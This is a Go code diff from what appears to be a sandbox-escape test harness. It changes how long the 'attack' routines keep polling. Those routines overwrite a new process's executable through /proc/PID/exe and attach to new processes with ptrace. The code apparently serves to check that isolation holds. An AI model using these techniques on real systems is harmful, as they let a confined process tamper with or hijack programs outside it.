@@ -206,7 +206,7 @@ func open(args []string) error {
 // keeps the file open that /proc/PID/exe leads to. When nobody runs it any more, it writes.
 func overwrite([]string) error {
 	fmt.Println("ready")
-	return eachNew(10*time.Second, func(pid int) bool {
+	return eachNew(func(pid int) bool {
 		fd, err := unix.Open(fmt.Sprintf("/proc/%d/exe", pid), unix.O_RDONLY|unix.O_CLOEXEC, 0)
 		if err != nil {
 			return false
@@ -240,19 +240,23 @@ func overwriteWhenIdle(fd int) bool {
 // become the program that it shall be: it still has the memory of box.
 func traceIncoming([]string) error {
 	fmt.Println("ready")
-	return eachNew(10*time.Second, func(pid int) bool {
+	return eachNew(func(pid int) bool {
 		exe, err := os.Readlink(fmt.Sprintf("/proc/%d/exe", pid))
 		return err == nil && filepath.Base(exe) != Name && unix.PtraceSeize(pid) == nil
 	})
 }
 
+// forgotten is when an attack ends by itself. It is killed long before that, by the check that
+// has started it, once nobody comes any more.
+const forgotten = 10 * time.Minute
+
 // eachNew tries something on every process that was not there at first, again and again.
-func eachNew(patience time.Duration, try func(pid int) bool) error {
+func eachNew(try func(pid int) bool) error {
 	old := map[int]bool{}
 	for _, pid := range pids() {
 		old[pid] = true
 	}
-	for end := time.Now().Add(patience); time.Now().Before(end); {
+	for end := time.Now().Add(forgotten); time.Now().Before(end); {
 		for _, pid := range pids() {
 			if !old[pid] && try(pid) {
 				return nil
